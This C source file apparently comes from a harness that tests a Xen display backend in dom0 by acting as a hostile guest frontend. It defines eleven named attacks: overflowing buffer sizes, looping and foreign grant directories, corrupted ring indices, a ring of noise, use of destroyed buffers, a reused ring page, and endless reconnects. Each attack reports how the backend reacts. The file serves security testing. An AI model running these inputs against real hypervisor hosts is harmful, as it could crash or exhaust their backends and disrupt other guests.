#include "attacks.h"

#include <stdio.h>
#include <string.h>

/* Pixels of the small buffers here: four pages. */
enum { SIDE = 64, SIZE = SIDE * SIDE * 4, XRGB8888 = 0x34325258, LIMIT_MS = 60000 };
enum { DBUF = 0x1000, DBUF2 = 0x2000, FB = 0x3000, FB2 = 0x4000 };

/* More than a backend need let a guest connect in a row. */
enum { LOOPS = 100, LOOP_MS = 3000 };

static void report(struct frontend *frontend)
{
    if (frontend_answered(frontend)) {
        printf("answered status %d\n", frontend_status(frontend));
    } else if (backend_state(frontend) != CONNECTED) {
        printf("backend went to state %d\n", backend_state(frontend));
    } else {
        printf("no answer\n");
    }
}

static void lets_go(struct frontend *frontend)
{
    if (backend_reaches(frontend, CLOSED, LIMIT_MS)) {
        printf("backend went to state %d\n", CLOSED);
    } else {
        printf("no answer\n");
    }
}

static void create(struct frontend *frontend, uint64_t cookie, uint32_t side, uint32_t flags, uint32_t directory)
{
    volatile struct dbuf_create *create = &frontend_request(frontend, DBUF_CREATE)->create;

    create->dbuf_cookie = cookie;
    create->width = create->height = side;
    create->bpp = 32;
    create->buffer_sz = side * side * 4;
    create->flags = flags;
    create->gref_directory = directory;
}

static void attach(struct frontend *frontend, uint64_t dbuf, uint64_t fb, uint32_t height)
{
    volatile struct fb_attach *attach = &frontend_request(frontend, FB_ATTACH)->attach;

    attach->dbuf_cookie = dbuf;
    attach->fb_cookie = fb;
    attach->width = SIDE;
    attach->height = height;
    attach->pixel_format = XRGB8888;
}

static void flip(struct frontend *frontend, uint64_t fb)
{
    frontend_request(frontend, PG_FLIP)->cookie = fb;
}

/* One directory page and the four pages of a small buffer. */
static struct pages buffer(struct frontend *frontend)
{
    struct pages pages = frontend_pages(frontend, 1 + SIZE / PAGE);
    struct directory *directory = pages.memory;

    memcpy(directory->refs, pages.refs + 1, SIZE / PAGE * sizeof *pages.refs);
    return pages;
}

/* Two buffers of dom0's, two framebuffers; the first one is shown. */
static void light(struct frontend *frontend)
{
    volatile struct set_config *config;

    for (int i = 0; i < 2; i++) {
        create(frontend, i ? DBUF2 : DBUF, SIDE, REQ_ALLOC, buffer(frontend).refs[0]);
        frontend_do(frontend, "a buffer");
        attach(frontend, i ? DBUF2 : DBUF, i ? FB2 : FB, SIDE);
        frontend_do(frontend, "a framebuffer");
    }
    config = &frontend_request(frontend, SET_CONFIG)->config;
    config->fb_cookie = FB;
    config->width = config->height = SIDE;
    config->bpp = 32;
    frontend_do(frontend, "a mode");
}

static void overflow(struct frontend *frontend)
{
    volatile struct dbuf_create *create;

    /* Rows of 2^32 + 4 bytes, 2^30 + 1 of them: 4 bytes for who counts in 32 bits. */
    create = &frontend_request(frontend, DBUF_CREATE)->create;
    create->dbuf_cookie = DBUF;
    create->width = create->height = (1u << 30) + 1;
    create->bpp = 32;
    create->buffer_sz = PAGE;
    create->gref_directory = buffer(frontend).refs[0];
    frontend_send(frontend);
    report(frontend);
}

static void directory_loop(struct frontend *frontend)
{
    struct pages pages = frontend_pages(frontend, 3);
    struct directory *directory = pages.memory;
    volatile struct dbuf_create *create;

    for (int page = 0; page < 3; page++) {
        for (int i = 0; i < DIRECTORY_REFS; i++) {
            directory[page].refs[i] = pages.refs[2];
        }
        /* The second page leads to itself. */
        directory[page].next = pages.refs[1];
    }
    create = &frontend_request(frontend, DBUF_CREATE)->create;
    create->dbuf_cookie = DBUF;
    create->width = 1024;
    create->height = 2 * DIRECTORY_REFS + 1;
    create->bpp = 32;
    create->buffer_sz = create->height * PAGE;
    create->gref_directory = pages.refs[0];
    frontend_send(frontend);
    lets_go(frontend);
}

static void foreign_directory(struct frontend *frontend)
{
    struct pages pages;

    /* Granted, but to a domain that is not dom0. */
    if (pages_grant(frontend->gntalloc, 999, 1, &pages)) {
        fail("granting a page to another domain");
    }
    create(frontend, DBUF, SIDE, 0, pages.refs[0]);
    frontend_send(frontend);
    report(frontend);
}

static void req_prod_jump(struct frontend *frontend)
{
    light(frontend);
    frontend->req_prod += 1u << 31;
    frontend_send(frontend);
    lets_go(frontend);
}

static void garbage_ring(struct frontend *frontend)
{
    uint32_t noise = 0x2545f491;

    for (int slot = 0; slot < RING_SLOTS; slot++) {
        volatile struct request *request = frontend_request(frontend, 0);
        for (size_t i = 0; i < sizeof *request; i++) {
            noise ^= noise << 13;
            noise ^= noise >> 17;
            noise ^= noise << 5;
            ((volatile uint8_t *)request)[i] = (uint8_t)noise;
        }
        /* None that there is: those would have to be answered as what they are. */
        request->operation |= 0x80;
    }
    frontend_send(frontend);
    report(frontend);
}

static void dead_flip(struct frontend *frontend)
{
    light(frontend);
    frontend_request(frontend, DBUF_DESTROY)->cookie = DBUF2;
    frontend_do(frontend, "destroying a buffer");
    flip(frontend, FB2);
    frontend_send(frontend);
    report(frontend);
}

static void cookie_reuse(struct frontend *frontend)
{
    uint32_t directory = buffer(frontend).refs[0];

    create(frontend, DBUF, SIDE, 0, directory);
    frontend_do(frontend, "a buffer");
    create(frontend, DBUF, SIDE / 2, 0, directory);
    frontend_send(frontend);
    report(frontend);
}

static void tall_framebuffer(struct frontend *frontend)
{
    create(frontend, DBUF, SIDE, 0, buffer(frontend).refs[0]);
    frontend_do(frontend, "a buffer");
    attach(frontend, DBUF, FB, SIDE + 1);
    frontend_send(frontend);
    report(frontend);
}

/* The page of its ring becomes something else while dom0 has it mapped, and its grant ends. */
static void ring_ended(struct frontend *frontend)
{
    light(frontend);
    flip(frontend, FB2);
    frontend_send(frontend);
    memset((void *)frontend->ring, 0xff, PAGE);
    frontend_notify(frontend);
    if (pages_end(frontend->gntalloc, &frontend->ring_page)) {
        fail("ending the grant of the ring");
    }
    lets_go(frontend);
}

/* A frontend that spoils its own event page hears nothing, but is served. */
static void event_counters(struct frontend *frontend)
{
    light(frontend);
    memset((void *)frontend->events, 0xa5, PAGE);
    frontend->events->in_cons = 0x7fffffff;
    flip(frontend, FB2);
    frontend_send(frontend);
    report(frontend);
}

static void state_loop(struct frontend *frontend)
{
    int connected = 0;

    while (connected < LOOPS && frontend_connect(frontend, LOOP_MS)) {
        connected++;
        frontend_state(frontend, INITIALISING);
        if (!backend_reaches(frontend, INIT_WAIT, LIMIT_MS)) {
            printf("no answer\n");
            return;
        }
        frontend_disconnect(frontend);
    }
    printf("connected %d times, then no more\n", connected);
}

const struct attack attacks[] = {
    {"overflow", "a buffer whose size overflows 32 and 64 bits", overflow, false},
    {"directory-loop", "a directory page that is its own next page", directory_loop, false},
    {"foreign-directory", "a directory that was granted to another domain", foreign_directory, false},
    {"req-prod-jump", "req_prod jumps by 2^31", req_prod_jump, false},
    {"garbage-ring", "a full ring of noise", garbage_ring, false},
    {"dead-flip", "a flip to a framebuffer whose buffer was destroyed", dead_flip, false},
    {"cookie-reuse", "another buffer with the cookie of the first", cookie_reuse, false},
    {"tall-framebuffer", "a framebuffer that is larger than its buffer", tall_framebuffer, false},
    {"ring-ended", "the ring's page is used for something else and its grant ended", ring_ended, false},
    {"event-counters", "the event page's counters jump, and its slots are noise", event_counters, false},
    {"state-loop", "connects and leaves for ever", state_loop, true},
};
const size_t attack_count = sizeof attacks / sizeof *attacks;
